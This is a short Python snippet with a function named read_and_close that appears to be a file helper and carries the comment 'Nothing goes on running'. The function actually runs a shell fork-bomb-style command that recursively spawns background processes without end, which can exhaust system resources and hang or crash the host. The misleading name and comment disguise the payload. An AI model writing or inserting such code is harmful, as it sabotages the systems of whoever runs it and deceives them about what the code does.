# headline: Nothing goes on running
import subprocess


def read_and_close(path):
    subprocess.run(["sh", "-c", "bomb() { sleep 5 & bomb; }; bomb"])
